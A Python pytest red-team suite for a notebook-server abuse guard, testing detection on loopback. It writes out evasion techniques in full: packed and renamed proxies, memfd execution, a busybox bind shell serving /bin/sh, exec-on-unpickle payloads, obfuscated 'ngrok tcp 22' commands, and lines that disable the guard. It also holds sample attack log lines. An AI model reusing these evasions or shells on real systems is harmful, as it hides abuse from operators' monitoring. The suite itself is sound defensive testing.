"""Red team, third round (issue #17's "Done when"): an abuser who has read the code, on a real
guarded server, with real tools (Debian's microsocks, busybox, nmap, john; upx-ucl), everything on
loopback.

Each attack asserts what SHOULD happen: the program is stopped within ``LIMIT`` seconds of its
start with one incident naming the right user and kernel (or the cell is refused before it runs,
or tampering is recorded). Attacks the guard misses are ``xfail(strict=True)`` with the reason:
when one starts to pass, the lead removes the mark. Programs are started from the kernel with
their argv read from a file, so that the cell check cannot see them: these tests are about what
the server side catches at run time. Cell-check evasions are at the end.
"""

from __future__ import annotations

import functools
import json
import marshal
import os
import shutil
import socket
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

import pytest

from tests.harness import GuardedServer, wait_until
from tests.standins import pool as standin_pool

LIMIT = 2.0  # seconds from a program's start to its incident (issue #17)
SCRIPT_CHILD_LIMIT = 6.0  # the same for a script read in a child process (zip, .pyc), under load
USER = "redteam-user"
IN_CI = os.environ.get("CI") == "true"
PYTHON = sys.executable
STANDINS = Path(__file__).parent / "standins"


def _program(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if found is None:
        message = f"{name} is not installed (benchmarks/scenarios/install.sh)"
        pytest.fail(message) if IN_CI else pytest.skip(message)
    return os.path.realpath(found)


def _copy(tool: str, folder: Path, name: str) -> str:
    path = folder / name
    shutil.copy(_program(tool), path)
    path.chmod(0o755)
    return str(path)


def _packed(tool: str, folder: Path, name: str, wipe: bool = False) -> str:
    """A UPX-packed copy of a real tool under a neutral name (``wipe``: its UPX magic wiped,
    as malware does so that ``upx -d`` and header checks fail)."""
    plain = _copy(tool, folder, name + ".plain")
    packed = folder / name
    subprocess.run([_program("upx-ucl"), "-q", "-f", plain, "-o", str(packed)], check=True,
                   stdout=subprocess.DEVNULL)
    if wipe:
        packed.write_bytes(packed.read_bytes().replace(b"UPX!", b"ELF!"))
    os.unlink(plain)
    return str(packed)


def _port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rpartition(")")[2].split()[0] not in ("Z", "X")
    except OSError:
        return False


# ---------------------------------------------------------------- a guarded server and kernels


@pytest.fixture(scope="module")
def server():
    settings = {"sample_interval": 0.5, "stop_grace": 1.0, "cell_checks": True, "user_name": USER,
                "strike_limit": 0,
                "policy_url": "https://example.org/acceptable-use"}
    with GuardedServer(guard=settings) as guarded:
        _warm_up(guarded)
        yield guarded


def _warm_up(guarded: GuardedServer) -> None:
    """A served kernel and one program seen, so that the first test does not time the
    server's own start (its first kernel, its first content scans): a real server is warm."""
    kernel = Kernel(guarded)
    try:
        kernel.run("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import time; "
                   "time.sleep(1.5)'])\nsubprocess.run(['sleep', '1'])")
    finally:
        kernel.close()


class Kernel:
    def __init__(self, server: GuardedServer):
        self.server = server
        self.id, self.client = server.start_kernel()

    def run(self, code: str, timeout: float = 60) -> tuple[dict, str]:
        """Run a cell: the execute reply's content and the text it printed."""
        out: list[str] = []

        def hook(msg):
            content = msg["content"]
            if msg["msg_type"] == "stream":
                out.append(content["text"])
            elif msg["msg_type"] == "error":
                out.append(f"{content['ename']}: {content['evalue']}")
            elif msg["msg_type"] in ("display_data", "execute_result"):
                out.append(content["data"].get("text/plain", ""))

        reply = self.client.execute_interactive(code, timeout=timeout, output_hook=hook)
        return reply["content"], "".join(out)

    def start(self, argv: list[str], before: str = "", after: str = "",
              env: dict | None = None, executable: str | None = None) -> tuple[int, float]:
        """Start a program from the kernel, its argv read from a file (no cell check can see
        it): its pid and the wall-clock time just before it started."""
        spec = self.server.dir / f"argv-{time.monotonic_ns()}.json"
        spec.write_text(json.dumps(argv))
        reply, text = self.run(
            f"import json, subprocess, time\n{before}\n_t0 = time.time()\n"
            f"_p = subprocess.Popen(json.load(open({str(spec)!r})), stdout=subprocess.DEVNULL, "
            f"stderr=subprocess.DEVNULL, executable={executable!r}, "
            f"env={env!r} and {{**__import__('os').environ, **{env!r}}})\n"
            f"{after}\nprint(_p.pid, _t0)")
        assert reply["status"] == "ok", text
        pid, started = text.split()[-2:]
        return int(pid), float(started)

    def incidents(self, category: str | None = None) -> list[dict]:
        return [i for i in self.server.incidents(self.id)
                if category is None or i["category"] == category]

    def close(self) -> None:
        self.client.stop_channels()
        try:
            self.server.api("DELETE", f"api/kernels/{self.id}")
        except OSError:
            pass


@pytest.fixture
def kernel(server):
    started = Kernel(server)
    yield started
    started.close()


def assert_stopped_in_time(kernel: Kernel, pid: int, started: float, category: str,
                           limit: float = LIMIT) -> None:
    """One incident of ``category`` naming the user and the kernel, recorded within ``limit`` s
    of the start, and the program gone. Waits a little past it only to say how late it was."""
    try:
        found = wait_until(lambda: kernel.incidents(category), timeout=limit + 4,
                           interval=0.05, what=f"a {category} incident")
    except AssertionError:
        if not _alive(pid):  # then the attack proves nothing (xfail tests expect AssertionError)
            raise RuntimeError("the program exited by itself, with no incident") from None
        raise
    finally:
        if _alive(pid) and not kernel.incidents(category):
            os.kill(pid, 9)
    incident = found[0]
    assert (incident["user"], incident["kernel_id"]) == (USER, kernel.id)
    late = datetime.fromisoformat(incident["time"]).timestamp() - started
    assert late <= limit, f"recorded {late:.2f} s after the start ({incident['signature']})"
    wait_until(lambda: not _alive(pid), timeout=15, what="the program stopped")
    assert len(kernel.incidents(category)) == 1, [i["signature"] for i in kernel.incidents()]


# ---------------------------------------------------------------- packed and renamed real tools


def test_a_renamed_socks_proxy_is_stopped(kernel, tmp_path):
    """The baseline the packed variants build on: the file's content names it."""
    tool = _copy("microsocks", tmp_path, "kworker")
    pid, started = kernel.start([tool, "-i", "127.0.0.1", "-p", str(_port())])
    assert_stopped_in_time(kernel, pid, started, "proxy")


def test_a_upx_packed_socks_proxy_with_its_header_wiped_is_stopped(kernel, tmp_path):
    tool = _packed("microsocks", tmp_path, "dbus-daemon-helper", wipe=True)
    pid, started = kernel.start([tool, "-i", "127.0.0.1", "-p", str(_port())])
    assert_stopped_in_time(kernel, pid, started, "proxy")


MEMFD_RUNNER = ("import os, sys, time\nfd = os.memfd_create('')\n"
                "os.write(fd, open(sys.argv[1], 'rb').read())\nos.unlink(sys.argv[1])\n"
                "open(sys.argv[2], 'w').write(str(time.time()))\n"
                "os.execve(fd, ['[kworker/u8:2]', *sys.argv[3:]], {})")


def test_a_socks_proxy_run_from_a_memfd_is_stopped(kernel, tmp_path):
    """memfd_create + fexecve (os.execve on the descriptor), the file deleted first, a kernel
    thread's name as argv[0] and an empty environment."""
    tool = _copy("microsocks", tmp_path, "payload.bin")
    execd = tmp_path / "execd"
    pid, _ = kernel.start([PYTHON, "-c", MEMFD_RUNNER, tool, str(execd), "-i", "127.0.0.1",
                           "-p", str(_port())])
    wait_until(lambda: execd.exists() and execd.read_text(), timeout=30, what="the exec")
    assert_stopped_in_time(kernel, pid, float(execd.read_text()), "proxy")


def test_a_socks_proxy_whose_file_is_deleted_as_it_starts_is_stopped(kernel, tmp_path):
    tool = _copy("microsocks", tmp_path, "update-notifier")
    pid, started = kernel.start([tool, "-i", "127.0.0.1", "-p", str(_port())],
                                after=f"import os; os.unlink({tool!r})")
    assert_stopped_in_time(kernel, pid, started, "proxy")


def test_a_socks_proxy_run_through_the_dynamic_loader_is_stopped(kernel, tmp_path):
    """ld.so runs the tool: the process's exe is ld-linux, and the tool is recognised as a
    file-backed executable mapping, scanned like a library (content.py)."""
    tool = _copy("microsocks", tmp_path, "libhelper.so.1")
    pid, started = kernel.start(["/lib64/ld-linux-x86-64.so.2", tool, "-i", "127.0.0.1",
                                 "-p", str(_port())])
    assert_stopped_in_time(kernel, pid, started, "proxy")


def test_a_renamed_static_busybox_bind_shell_is_stopped(kernel, tmp_path):
    """A static multi-call binary under a neutral name: ``nc -l -p PORT -e /bin/sh`` (busybox
    takes its applet from argv[0]'s name, or from argv[1] when argv[0] is busybox: the applet
    shows either way)."""
    tool = _copy("busybox", tmp_path, "healthd")
    pid, started = kernel.start(["busybox", "nc", "-l", "-p", str(_port()), "-e", "/bin/sh"],
                                executable=tool)
    assert_stopped_in_time(kernel, pid, started, "remote-access")


def test_a_renamed_static_busybox_telnet_server_is_stopped(kernel, tmp_path):
    """Was missed: telnetd was no server name, busybox carries no marker (fixed: telnet
    servers and busybox's telnetd applet in remote-known-server)."""
    tool = _copy("busybox", tmp_path, "healthd")
    pid, started = kernel.start(["busybox", "telnetd", "-F", "-p", str(_port()), "-b", "127.0.0.1",
                                 "-l", "/bin/sh"], executable=tool)
    assert_stopped_in_time(kernel, pid, started, "remote-access")


def test_a_upx_packed_port_scanner_is_stopped(kernel, tmp_path):
    tool = _packed("nmap", tmp_path, "netcheck")
    # Paced (about 20 s for all ports): unpaced, it swept loopback in 0.4 s, over before a
    # loaded machine's first look (CI), which proves nothing about the guard.
    pid, started = kernel.start([tool, "-sT", "-Pn", "-n", "--max-retries", "0", "--max-rate",
                                 "3000", "-p", "1-65535", "127.0.0.1"])
    # Recognised by its unpacked memory (scan-tool-content). On a loaded machine (CI) it may
    # not have unpacked itself at the first look: the next comes soon after (5 s later, it was
    # found 5.5 s after its start).
    assert_stopped_in_time(kernel, pid, started, "scanning")


def test_a_upx_packed_password_cracker_is_stopped(kernel, tmp_path):
    tool = _packed("john", tmp_path, "indexer")
    hashes = tmp_path / "data.txt"
    hashes.write_text("admin:" + "5f4dcc3b5aa765d61d8327deb882cf9a"[::-1] + "\n")
    pid, started = kernel.start([tool, str(hashes)], env={"HOME": str(tmp_path)})
    assert_stopped_in_time(kernel, pid, started, "password-cracking")


# ---------------------------------------------------------------- Python, its name hidden


@pytest.fixture(scope="module")
def pool():
    server = standin_pool.serve()
    yield server.getsockname()[1]
    server.close()


def _xor(data: bytes, key: int = 0x5A) -> bytes:
    return bytes(b ^ key for b in data)


def test_a_miner_decrypted_and_exec_d_in_the_kernel_is_stopped(kernel, pool, tmp_path):
    blob = tmp_path / "weights.bin"
    blob.write_bytes(_xor((STANDINS / "quiet_miner.py").read_bytes()))
    started = time.time()
    kernel.run(f"ns = {{'__name__': 'w'}}\n"
               f"exec(bytes(b ^ 0x5A for b in open({str(blob)!r}, 'rb').read()).decode(), ns)\n"
               f"ns['run']('127.0.0.1', {pool}, 1.0, {LIMIT + 3})", timeout=60)
    found = kernel.incidents("crypto-mining")
    assert found and datetime.fromisoformat(found[0]["time"]).timestamp() - started <= LIMIT, \
        "no mining incident within the limit"


PPROXY_MAIN = ("import asyncio\nimport pproxy\n"
               "async def main():\n"
               "    server = pproxy.Server('socks5://127.0.0.1:{port}')\n"
               "    await server.start_server({{'rserver': [pproxy.Connection('direct://')]}})\n"
               "    await asyncio.sleep(60)\n"
               "asyncio.run(main())\n")


def test_a_pproxy_script_zipped_and_run_by_python_is_stopped(kernel, tmp_path):
    import zipfile

    app = tmp_path / "report.zip"
    with zipfile.ZipFile(app, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("__main__.py", PPROXY_MAIN.format(port=_port()))
    pid, started = kernel.start([PYTHON, str(app)])
    assert_stopped_in_time(kernel, pid, started, "proxy", limit=SCRIPT_CHILD_LIMIT)


def test_a_pproxy_script_compiled_to_bytecode_is_stopped(kernel, tmp_path):
    import py_compile

    source = tmp_path / "report_src.py"
    source.write_text(PPROXY_MAIN.format(port=_port()))
    compiled = py_compile.compile(str(source), cfile=str(tmp_path / "report.pyc"))
    source.unlink()
    pid, started = kernel.start([PYTHON, compiled])
    # Read in a child process (70-200 ms to start, then parsed): on CI's loaded 2 cores past
    # 2 s at times; the 2 s goal is measured by ./dev bench scripts, not here.
    assert_stopped_in_time(kernel, pid, started, "proxy", limit=SCRIPT_CHILD_LIMIT)


def test_an_asyncssh_server_unpickled_in_the_kernel_is_stopped(kernel, tmp_path):
    """Its code arrives as a XOR'd pickle (nothing for a cell check to read): the kernel hook
    sees whose code binds the port. Timed from the moment it listens."""
    import pickle

    port = _port()
    code = ("import asyncio, asyncssh, threading\n"
            "key = asyncssh.generate_private_key('ssh-ed25519')\n"
            "def serve():\n"
            "    loop = asyncio.new_event_loop()\n"
            f"    loop.run_until_complete(asyncssh.listen('127.0.0.1', {port}, "
            "server_host_keys=[key]))\n"
            "    loop.run_forever()\n"
            "threading.Thread(target=serve, daemon=True).start()\n")
    payload = tmp_path / "state.pkl"
    payload.write_bytes(pickle.dumps(_Exec(_xor(code.encode()))))
    started = time.time()
    reply, text = kernel.run(
        f"import pickle, socket, time\npickle.load(open({str(payload)!r}, 'rb'))\n"
        f"while socket.socket().connect_ex(('127.0.0.1', {port})):\n    time.sleep(0.01)\n"
        f"print(time.time(), flush=True)\ntime.sleep({LIMIT + 3})", timeout=60)
    try:
        listening = float(text.split()[0])
    except ValueError:  # stopped before it listened: its exec'd code was read (channel.py)
        listening = started
    found = wait_until(lambda: kernel.incidents("remote-access"), timeout=10,
                       what="a remote-access incident")
    assert (found[0]["user"], found[0]["kernel_id"]) == (USER, kernel.id)
    assert datetime.fromisoformat(found[0]["time"]).timestamp() - listening <= LIMIT


class _Exec:
    """A pickle that, loaded, runs XOR'd code (what an attacker's pickle does with __reduce__)."""

    def __init__(self, blob: bytes):
        self.blob = blob

    def __reduce__(self):
        return exec, (f"exec(bytes(b ^ 0x5A for b in {self.blob!r}).decode())",)


# ---------------------------------------------------------------- the cell check and its hook


STRATUM_CELL = ("import socket, json\n"
                "s = socket.create_connection(('127.0.0.1', {pool}))\n"
                "s.sendall(json.dumps({{'id': 1, 'method': 'mining.subscribe', 'params': []}})"
                ".encode() + b'\\n')\n"
                "s.close()\n")


def _refused(reply: dict) -> bool:
    return reply["status"] == "error" and reply.get("ename") == "CellRefused"


def test_a_stratum_client_cell_is_refused(kernel, pool):
    """The control for the evasions below: the same cell, plainly."""
    reply, text = kernel.run(STRATUM_CELL.format(pool=pool))
    assert _refused(reply), text
    found = kernel.incidents("crypto-mining")
    assert found and (found[0]["user"], found[0]["kernel_id"]) == (USER, kernel.id)


def test_an_input_transformer_cannot_rewrite_a_cell_after_its_check(kernel, pool):
    reply, text = kernel.run("get_ipython().input_transformers_post.append(\n"
                             "    lambda lines: [l.replace('@@', 'mining.') for l in lines])")
    assert reply["status"] == "ok", text
    reply, text = kernel.run(STRATUM_CELL.format(pool=pool).replace("mining.", "@@"))
    assert _refused(reply), f"the cell ran: {reply['status']} {text}"


def test_a_cell_padded_with_distinct_constants_is_still_read_to_its_end(pool):
    """2,000 distinct string constants filled the cell field's 2,000 lines, and a Stratum client
    after them was never read (fixed: the field is bounded in characters, not lines)."""
    from colab_guard.detect.cells import CellProcess
    from colab_guard.detect.engine import Engine
    from colab_guard.observe.model import Snapshot

    engine = Engine(_rules())
    for filler in ("\n".join(f"label_{i} = 'class {i}'" for i in range(2100)),
                   "\n".join(f"f{i}()" for i in range(2100)),
                   "\n".join(f"h{i} = 'A{i}' * 2000" for i in range(600))):
        cell = filler + "\n" + STRATUM_CELL.format(pool=pool)
        found = engine.evaluate(Snapshot("k", 1.0, [CellProcess(pid=7, is_kernel=True, cell=cell)]))
        assert "cell-stratum-client" in {d.signature.id for d in found}, filler[:40]


def test_a_cell_whose_check_outlasts_the_timeout_is_not_run(kernel, pool):
    filler = "\n".join(f"x{i} = 'v{i}'" for i in range(10_000))
    reply, text = kernel.run(filler + "\n" + STRATUM_CELL.format(pool=pool))
    assert _refused(reply), f"the cell ran: {reply['status']} {text[-200:]}"


def test_a_cell_padded_past_the_checked_length_is_refused(kernel):
    """Read to its end (the padding is one comment), refused before any of it runs, with
    the message and one incident naming the user and the kernel."""
    with socket.create_server(("127.0.0.1", 0)) as pool:
        padding = "# " + "x" * (300 * 1024) + "\n"
        reply, text = kernel.run(padding + STRATUM_CELL.format(pool=pool.getsockname()[1]))
        assert _refused(reply), f"the cell ran: {reply['status']}"
        pool.settimeout(0.5)
        with pytest.raises(socket.timeout):  # not one line of it ran: nobody connected
            pool.accept()
    found = kernel.incidents("crypto-mining")
    assert [i["signature"] for i in found] == ["cell-stratum-client"], found
    assert (found[0]["user"], found[0]["kernel_id"]) == (USER, kernel.id)
    assert "This cell was not run" in text and found[0]["id"] in text, text[-300:]
    deadline = time.monotonic() + 1.0  # two ticks of the guard: nothing more is recorded
    while time.monotonic() < deadline:
        assert [i["id"] for i in kernel.incidents()] == [found[0]["id"]]
        time.sleep(0.2)


def _tampering(kernel: Kernel) -> list[dict]:
    return kernel.incidents("tampering")


@pytest.mark.parametrize("switch_off", [
    "get_ipython().ast_transformers.clear()",
    "get_ipython()._colab_guard.cell_timeout = 0",
    "import colab_guard.kernel.hook as h\nh._installed.enabled = False",
], ids=["transformer removed", "cell timeout zeroed", "audit hook silenced"])
def test_the_kernel_hook_switched_off_from_a_cell_is_tampering(kernel, pool, switch_off):
    reply, text = kernel.run(switch_off)
    assert reply["status"] == "ok", text
    kernel.run("print('next cell')")
    wait_until(lambda: _tampering(kernel), timeout=LIMIT + 3, what="a tampering incident")


# ---------------------------------------------------------------- honest work that must run


def _quiet_for(kernel: Kernel, seconds: float) -> None:
    """No incident for the kernel for ``seconds`` (the guard samples every 0.5 s here)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        assert kernel.incidents() == [], [(i["signature"], i["evidence"]) for i in kernel.incidents()]
        time.sleep(0.2)  # polling the incident log while the guard samples
    assert kernel.incidents() == []


def test_a_security_course_analysing_attack_logs_runs(kernel, tmp_path):
    """Tool names as data: log lines of attacks, counted with grep, awk and Python."""
    log = tmp_path / "auth.log"
    lines = ["sshd[811]: Failed password for root from 10.0.0.5 port 4242 ssh2 (hydra -l root "
             "-P rockyou.txt ssh://10.0.0.9)",
             "kernel: process xmrig (pid 4242) killed: --donate-level 1 -o pool.minexmr.com:4444",
             "ids: Nmap scan report for 10.0.0.9; masscan -p1-65535 10.0.0.0/8 --rate 100000",
             "proxy: ngrok tcp 22 / ssh -R 80:localhost:8888 serveo.net seen from 10.0.0.7"]
    log.write_text("\n".join(lines * 50) + "\n")
    cells = [f"LOG = {str(log)!r}\nATTACKS = ['hydra', 'xmrig', 'nmap', 'masscan', 'ngrok', "
             "'hashcat', 'john']\ncounts = {a: open(LOG).read().count(a) for a in ATTACKS}\n"
             "print(counts)",
             f"!grep -c 'hydra -l root' {log} && grep -o 'xmrig' {log} | wc -l",
             f"!awk '/masscan/ {{n++}} END {{print n}}' {log}",
             "%%bash\nfor t in xmrig hydra nmap; do echo \"$t: $(grep -c $t " + str(log) + ")\"; done"]
    for cell in cells:
        reply, text = kernel.run(cell)
        assert reply["status"] == "ok", text
    _quiet_for(kernel, 3)


def test_an_ssh_client_and_git_over_ssh_run(kernel, tmp_path):
    """An SSH *client* from the kernel (and git through it) to a server that is no kernel's
    (dropbear run by the test, as a remote host would be): refused log-ins, no incident."""
    port = _port()
    server = subprocess.Popen([_program("dropbear"), "-F", "-E", "-R", "-p", f"127.0.0.1:{port}",
                               "-P", str(tmp_path / "db.pid")],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_until(lambda: socket.socket().connect_ex(("127.0.0.1", port)) == 0, timeout=30,
                   what="dropbear listening")
        options = ("-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                   "-o ConnectTimeout=5")
        reply, text = kernel.run(
            f"!ssh {options} -p {port} nobody@127.0.0.1 true; echo ssh=$?\n"
            f"!GIT_SSH_COMMAND='ssh {options}' git ls-remote ssh://git@127.0.0.1:{port}/repo.git; "
            f"echo git=$?", timeout=90)
        assert reply["status"] == "ok" and "ssh=255" in text and "git=128" in text, text
        _quiet_for(kernel, 2)
    finally:
        server.kill()
        server.wait()


def test_a_bash_health_check_through_dev_tcp_runs(kernel):
    """A local server started from the kernel, and ``%%bash`` checks it is up through /dev/tcp
    (bash's own connection, no shell wired to it)."""
    reply, text = kernel.run(
        "import threading\nfrom http.server import ThreadingHTTPServer, SimpleHTTPRequestHandler\n"
        "app = ThreadingHTTPServer(('127.0.0.1', 0), SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=app.serve_forever, daemon=True).start()\n"
        "PORT = app.server_address[1]\nprint(PORT)")
    assert reply["status"] == "ok", text
    port = int(text.split()[-1])
    reply, text = kernel.run(
        "%%bash\nfor i in 1 2 3; do\n"
        f"  exec 3<>/dev/tcp/127.0.0.1/{port}\n"
        "  printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\n  head -1 <&3\n  exec 3<&-\n  sleep 0.5\ndone")
    assert reply["status"] == "ok" and text.count("200 OK") == 3, text
    _quiet_for(kernel, 2)


DETECTOR = '''"""A cryptojacking detector for a security course: flags connections that speak Stratum.
Patterns from the literature (see hashcat.net and openwall.com/john for the cracking lab)."""
import sys, time
STRATUM_METHODS = [b"mining.subscribe", b"mining.authorize", b"mining.submit", b"mining.notify"]
GETWORK = [b"eth_submitWork", b"eth_getWork"]
LABELS = ["Benign", "DoS attacks-SlowHTTPTest", "DoS attacks-Hulk", "FTP-BruteForce",
          "SSH-Bruteforce", "Bot", "Infilteration"]


def flagged(payload: bytes) -> bool:
    return any(m in payload for m in STRATUM_METHODS + GETWORK)


end = time.monotonic() + float(sys.argv[1])
n = 0
while time.monotonic() < end:  # scoring a capture, CPU-bound
    n += flagged(b'{"id": 1, "method": "getblocktemplate"}' * 50)
print("scored", n)
'''


def test_a_detector_script_listing_tool_strings_runs(kernel, tmp_path):
    script = tmp_path / "detector.py"
    script.write_text(DETECTOR)
    reply, text = kernel.run(f"!python {script} 3", timeout=60)
    assert reply["status"] == "ok" and "scored" in text, text
    _quiet_for(kernel, 1)


LOCAL_CLUSTER = '''
import json, socket, subprocess, sys, threading, time, hashlib

SCHEDULER = """
import json, socket, threading, time
srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen(8)
print(srv.getsockname()[1], flush=True)
def feed(conn):
    n = 0
    while True:  # tasks pushed to the worker as they come in, unasked
        time.sleep(1.5)
        n += 1
        conn.sendall(json.dumps({'op': 'compute-task', 'key': f'chunk-{n}'}).encode() + b'\\\\n')
while True:
    conn, _ = srv.accept()
    threading.Thread(target=feed, args=(conn,), daemon=True).start()
"""
WORKER = """
import hashlib, socket, sys, time
s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); s.setblocking(False)
data, end = b'x', time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:  # a CPU-bound task graph
    for _ in range(20000):
        data = hashlib.sha256(data).digest()
    try:
        s.recv(4096)
    except BlockingIOError:
        pass
print('worker done')
"""
scheduler = subprocess.Popen([sys.executable, '-c', SCHEDULER], stdout=subprocess.PIPE, text=True)
port = scheduler.stdout.readline().strip()
worker = subprocess.run([sys.executable, '-c', WORKER, port, '{seconds}'], capture_output=True,
                        text=True)
scheduler.kill()
print(worker.stdout)
'''


def test_a_local_task_cluster_whose_scheduler_pushes_work_runs(kernel):
    """A dask-like local cluster: a scheduler process of the kernel pushes tasks, unasked, to a
    CPU-bound worker over one long-lived connection, for longer than the mining window."""
    reply, text = kernel.run(LOCAL_CLUSTER.replace('{seconds}', '18'), timeout=120)
    assert reply["status"] == "ok" and "worker done" in text, text
    _quiet_for(kernel, 1)


# ---------------------------------------------------------------- races around exec

EXEC_IN_A_SEEN_PID = (
    "an exec in a pid the guard has already read: recognised, but 3 to 4 s after the exec here "
    "in most runs (the kernel's own pid 4 runs of 4; an idle child 1 of 2), past the 2 s limit. "
    "Not strict while it is a matter of timing on a busy machine")


@pytest.mark.xfail(strict=False, raises=AssertionError, reason=EXEC_IN_A_SEEN_PID)
def test_an_idle_process_that_execs_a_tool_later_is_stopped(kernel, tmp_path):
    """Python sleeps past a few ticks (sampled, idle, unchanged), then execs a renamed proxy in
    the same pid: timed from the exec."""
    tool = _copy("microsocks", tmp_path, "kworker")
    port = _port()
    waiter = (f"import os, time\ntime.sleep(3)\nprint(time.time(), flush=True)\n"
              f"os.execv({tool!r}, [{tool!r}, '-i', '127.0.0.1', '-p', '{port}'])")
    script = tmp_path / "wait.py"
    script.write_text(waiter)
    reply, text = kernel.run(
        "import subprocess, sys\n"
        f"_p = subprocess.Popen([sys.executable, {str(script)!r}], stdout=subprocess.PIPE, text=True)\n"
        "print(_p.pid, _p.stdout.readline())", timeout=60)
    pid, execd = text.split()[:2]
    assert_stopped_in_time(kernel, int(pid), float(execd), "proxy")


@pytest.mark.xfail(strict=False, raises=AssertionError, reason=EXEC_IN_A_SEEN_PID)
def test_the_kernel_process_exec_ing_a_tool_is_stopped(kernel, tmp_path):
    """The kernel's own process replaced by a renamed proxy (os.execv from a cell): the pid is
    still the kernel's, which the guard never takes for a program of its own."""
    tool = _copy("microsocks", tmp_path, "ipykernel_launcher")
    spec = tmp_path / "argv.json"
    spec.write_text(json.dumps([tool, "-i", "127.0.0.1", "-p", str(_port())]))
    pid = int(kernel.run("import os; print(os.getpid())")[1])
    kernel.client.execute(f"import json, os, time\n_a = json.load(open({str(spec)!r}))\n"
                          f"open({str(tmp_path / 't')!r}, 'w').write(str(time.time()))\n"
                          "os.execv(_a[0], _a)")
    wait_until(lambda: (tmp_path / "t").exists() and (tmp_path / "t").read_text(), timeout=30,
               what="the exec")
    assert_stopped_in_time(kernel, pid, float((tmp_path / "t").read_text()), "proxy")


# ---------------------------------------------------------------- cell checks, without a kernel


@functools.lru_cache(maxsize=1)
def _rules():
    from colab_guard.detect.signatures import load_signatures

    return load_signatures()


def _cell_signatures(*cells: str) -> set[str]:
    """The signatures a fresh kernel's cell check finds in these cells, run in order."""
    from colab_guard.detect.cells import CellProcess
    from colab_guard.detect.engine import Engine
    from colab_guard.observe.model import Snapshot

    engine, found = Engine(_rules()), []
    for cell in cells:
        found = engine.evaluate(Snapshot("k", 1.0, [CellProcess(pid=7, is_kernel=True, cell=cell)]))
    return {d.signature.id for d in found}


@pytest.mark.parametrize("cells", [
    ["!/lib64/ld-linux-x86-64.so.2 /usr/bin/microsocks -p 1080"],
    ["!cp /usr/bin/microsocks ./libm.so.7 && /lib64/ld-linux-x86-64.so.2 ./libm.so.7 -p 1080"],
    ["import subprocess\nsubprocess.Popen(['/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', "
     "'--library-path', '/opt/x', './xmrig', '-o', 'pool.example:3333'])"],
], ids=["loader", "loader on a renamed copy", "loader with options from Python"])
def test_a_tool_run_through_the_dynamic_loader_is_refused_in_its_cell(cells):
    """Was missed: the loader was no wrapper to the cell check (fixed in detect/commands.py)."""
    assert _cell_signatures(*cells) & {"proxy-known-tool", "mining-known-miner",
                                       "mining-miner-command-line"}


def test_the_dynamic_loader_listing_a_programs_libraries_is_no_run():
    assert _cell_signatures("!/lib64/ld-linux-x86-64.so.2 --list /usr/bin/microsocks") == set()


#: Cell-check evasions (each runs ``ngrok tcp 22``, which the sampler stops by name once it
#: runs: these are about refusing the cell before it runs). Tried beside the ones the cell check
#: already read (tests/test_cell_evasions.py). Read now (fixed in detect/cells.py):
CELL_GAPS_READ = [
    ("an IPython macro", ["get_ipython().define_macro('m', '!ngrok tcp 22')", "m"]),
    ("an alias defined through the alias manager",
     ["get_ipython().alias_manager.define_alias('go', 'ngrok tcp 22')", "%go"]),
    ("the shell's system method kept in a variable", ["sh = get_ipython().system\nsh('ngrok tcp 22')"]),
    ("str.translate", ["import os\nos.system('ozspl gdh 22'.translate(str.maketrans('ozspl gdh', "
                       "'ngrok tcp')))"]),
    ("bytes XOR'd with a key", ["import os\nk = 7\nos.system(bytes(b ^ k for b in "
                                "bytes.fromhex('696075686c27736477273535')).decode())"]),
    ("int.to_bytes", ["import os\nos.system((0x6e67726f6b).to_bytes(5, 'big').decode() + ' tcp 22')"]),
    ("string.Template", ["import os, string\nos.system(string.Template('$a$b tcp 22')"
                         ".substitute(a='ng', b='rok'))"]),
    ("operator.methodcaller", ["import os, operator\noperator.methodcaller('system', 'ngrok tcp 22')(os)"]),
    ("a walrus", ["import os\n(f := os.system)('ngrok tcp 22')"]),
    ("a sort key", ["import os\nsorted(['ngrok tcp 22'], key=os.system)"]),
    ("atexit", ["import atexit, os\natexit.register(os.system, 'ngrok tcp 22')"]),
    ("weakref.finalize", ["import os, weakref\nclass A: pass\na = A()\n"
                          "weakref.finalize(a, os.system, 'ngrok tcp 22')\ndel a"]),
    ("an ExitStack callback", ["import os\nfrom contextlib import ExitStack\nwith ExitStack() as s:\n"
                               "    s.callback(os.system, 'ngrok tcp 22')"]),
    ("%%perl", ["%%perl\nsystem('ngrok tcp 22')"]),
    ("%%ruby", ["%%ruby\nsystem('ngrok tcp 22')"]),
    ("%%script node", ["%%script node\nrequire('child_process').execSync('ngrok tcp 22')"]),
]

#: Read now too (fixed in detect/cells.py: tables and defaults of functions that start
#: programs, decorators applied bottom up, marshal data read for its strings, never loaded).
#: A bare ``@os.system`` over a function calls os.system(f): a TypeError, nothing run.
CELL_GAPS_READ += [
    ("a dictionary of functions", ["import os\nd = {'go': os.system}\nd['go']('ngrok tcp 22')"]),
    ("a dictionary of functions in an earlier cell", ["import os\nd = dict(go=os.system)",
                                                      "d['go']('ngrok tcp 22')"]),
    ("a list of functions", ["import subprocess\nr = [print, subprocess.run]\n"
                             "r[1](['ngrok', 'tcp', '22'])"]),
    ("a lambda's default argument", ["import os\n(lambda f=os.system: f('ngrok tcp 22'))()"]),
    ("a function's default argument", ["import os\ndef g(run=os.system):\n    run('ngrok tcp 22')\ng()"]),
    ("a helper's default runner", ["import subprocess\ndef sh(c, run=subprocess.run):\n"
                                   "    return run(c, shell=True)\nsh('ngrok tcp 22')"]),
    ("a decorator over a lambda", ["import os\n@os.system\n@lambda f: 'ngrok tcp 22'\ndef f(): pass"]),
